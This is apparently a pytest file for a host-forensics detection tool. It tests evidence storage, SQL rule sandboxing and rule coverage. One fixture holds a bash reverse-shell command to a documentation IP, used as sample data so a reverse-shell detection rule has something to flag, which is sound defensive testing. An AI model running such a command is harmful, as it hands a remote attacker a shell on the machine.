"""Evidence in memory gives what evidence on disk gives; a need is claimed only where it is proved."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from hinomi.detect import cases
from hinomi.detect.casefile import read_cases
from hinomi.detect.catalogue import load_rules
from hinomi.detect.needs import is_empty, needs_of, tables_of, words_of
from hinomi.detect.rowset import filled, write_rows
from hinomi.detect.sql import Evidence
from hinomi.detect.sqlrule import run_rules
from hinomi.detect.standing import CHUNK, MAX_GONE, StandingEvidence
from hinomi.model.errors import RuleError
from hinomi.model.findings import Coverage
from hinomi.model.tables import Row, table_of

DROPPED = {
    "files": [{"path": "/srv/x", "kind": "file", "mode": 0o755}],
    "scripts": [{"path": "/srv/x", "language": "shell"}],
    "script_actions": [
        {
            "path": "/srv/x",
            "action": "executes-code",
            "object": "download",
            "detail": "bash on /dev/tcp",
            "line": 2,
            "command": "bash -i >& /dev/tcp/203.0.113.9/443",
            "resolved": True,
        },
        {
            "path": "/srv/x",
            "action": "connects",
            "object": "203.0.113.9:443",
            "detail": "/dev/tcp",
            "line": 2,
            "command": "bash -i >& /dev/tcp/203.0.113.9/443",
            "resolved": True,
        },
    ],
}


def rows_of(tables: dict[str, list[dict[str, Any]]]) -> dict[str, list[Row]]:
    return {name: [filled(name, row) for row in rows] for name, rows in tables.items()}


def test_rows_are_put_and_dropped_by_number(tmp_path: Path) -> None:
    evidence = StandingEvidence(tmp_path)
    files = rows_of({"files": [{"path": f"/f{n}\udcff", "size": 1 << 70} for n in range(CHUNK + 3)]})["files"]
    evidence.put("files", files, range(7, 7 + len(files)))
    assert evidence.has("files") and not evidence.has("elf")
    (first,) = evidence.query("SELECT path, size FROM files WHERE row = 7").rows
    assert first == ("/f0\\xff", (1 << 63) - 1), "hostile names and numbers as in evidence on disk"
    evidence.drop("files", [7, 8])
    assert evidence.query("SELECT count(*) FROM files").rows == [(CHUNK + 1,)]
    evidence.drop("files", range(9, 7 + len(files)))
    assert not evidence.has("files")
    evidence.put("files", files[:1], [0])
    evidence.empty()
    assert evidence.query("SELECT count(*) FROM files").rows == [(0,)]


def test_a_rule_reaches_no_file_and_changes_nothing(tmp_path: Path) -> None:
    evidence = StandingEvidence(tmp_path / "temporary")
    (tmp_path / "x.csv").write_text("a\n1\n")
    for sql in (f"SELECT * FROM '{tmp_path}/x.csv'", "DROP TABLE files", "SET threads=4", "SELECT 1; SELECT 2"):
        with pytest.raises(RuleError):
            evidence.query(sql)
    evidence.query("SELECT * FROM files")


def test_rules_find_in_memory_what_they_find_on_disk(tmp_path: Path) -> None:
    rules = [rule for rule in load_rules().of_kind("sql") if "script_actions" in tables_of(rule)]
    standing, rows = StandingEvidence(tmp_path), rows_of(DROPPED)
    for table, those in rows.items():
        standing.put(table, those, range(len(those)))
    with Evidence(write_rows(tmp_path, [row for those in rows.values() for row in those])) as evidence:
        on_disk = list(run_rules(evidence, rules, Coverage()))
    coverage = Coverage()
    assert list(run_rules(standing, rules, coverage)) == on_disk and coverage.complete
    assert {draft.rule_id for draft in on_disk} >= {"reverse-shell-script"}


def test_a_case_that_hits_meets_the_needs_of_its_rule(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No finding of a rule's own case would be missed for a need that is not there."""
    there: set[str] = set()

    def written(folder: Path, rows: Iterable[Row]) -> dict[str, list[Path]]:
        listed = list(rows)
        there.update(word for row in listed for word in words_of(table_of(type(row)).name, row))
        return write_rows(folder, listed)

    monkeypatch.setattr(cases, "write_rows", written)
    rules = load_rules().of_kind("sql")
    needs = needs_of(rules, str(tmp_path))
    assert needs["reverse-shell-script"] == {"script_actions"}
    assert "script_actions.action=starts" in needs["mutual-watchdog"]
    asked = 0
    for rule in rules:
        case = next(case for case in read_cases(rule.path.with_name(f"{rule.id}.cases.yml")) if case.hits)
        there.clear()
        if needs.get(rule.id):
            assert cases.examine(rule, case, Coverage()), rule.id
            assert needs[rule.id] <= there, (rule.id, case.name)
            asked += 1
    assert asked > 60


def test_only_what_is_certain_is_empty() -> None:
    def plan(name: str, *children: dict[str, Any], **info: Any) -> dict[str, Any]:
        return {"name": name, "children": list(children), "extra_info": info}

    nothing, some = plan("EMPTY_RESULT"), plan("SEQ_SCAN")

    def join(how: str, left: dict[str, Any], right: dict[str, Any]) -> bool:
        return is_empty(plan("HASH_JOIN", left, right, **{"Join Type": how}))

    assert is_empty(plan("PROJECTION", plan("FILTER", nothing))) and not is_empty(plan("PROJECTION", some))
    assert join("INNER", some, nothing) and join("SEMI", some, nothing) and join("LEFT", nothing, some)
    assert not join("LEFT", some, nothing) and not join("RIGHT", nothing, some) and not join("ANTI", some, nothing)
    assert not join("OUTER", nothing, some) and join("RIGHT", some, nothing) and not join("MARK", some, nothing)
    assert not is_empty(plan("UNION", nothing, some)) and is_empty(plan("UNION", nothing, nothing))
    assert not is_empty(plan("UNGROUPED_AGGREGATE", nothing)) and not is_empty(plan("HASH_GROUP_BY", nothing))
    assert is_empty(plan("HASH_GROUP_BY", nothing, Groups="#0"))
    scan = plan("CTE_SCAN", **{"CTE Index": "7"})
    assert is_empty(plan("CTE", nothing, scan, **{"Table Index": "7"}))
    assert not is_empty(plan("CTE", some, scan, **{"Table Index": "7"}))


def test_a_table_whose_rows_come_and_go_is_copied_and_loses_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hinomi.detect.standing.MAX_HOLES", 5)
    evidence = StandingEvidence(tmp_path)

    def stored() -> int:
        return int(evidence.query("SELECT estimated_size FROM duckdb_tables() WHERE table_name = 'files'").rows[0][0])

    for number in range(40):
        evidence.put("files", [filled("files", {"path": f"/srv/{number}"})], [number])
        evidence.drop("files", [number - 2] if number >= 2 else [])
        assert stored() <= 8, "what was taken away keeps no room"
    assert evidence.query("SELECT row, path FROM files ORDER BY row").rows == [(38, "/srv/38"), (39, "/srv/39")]


def test_rows_that_come_and_go_take_no_more_room_in_the_end(tmp_path: Path) -> None:
    evidence, held = StandingEvidence(tmp_path), []
    files = rows_of({"files": [{"path": f"/srv/{n}", "owner": f"user{n}"} for n in range(MAX_GONE + 1)]})["files"]
    for turn in range(6):
        numbers = range(turn * len(files), (turn + 1) * len(files))
        evidence.put("files", files, numbers)
        evidence.drop("files", numbers)
        evidence.settle()
        (room,) = evidence.connection.execute("SELECT sum(memory_usage_bytes) FROM duckdb_memory()").fetchone()
        held.append(room)
    assert held[-1] <= held[1], held
    evidence.put("files", files[:1], [0])
    assert evidence.query("SELECT path FROM files").rows == [("/srv/0",)]
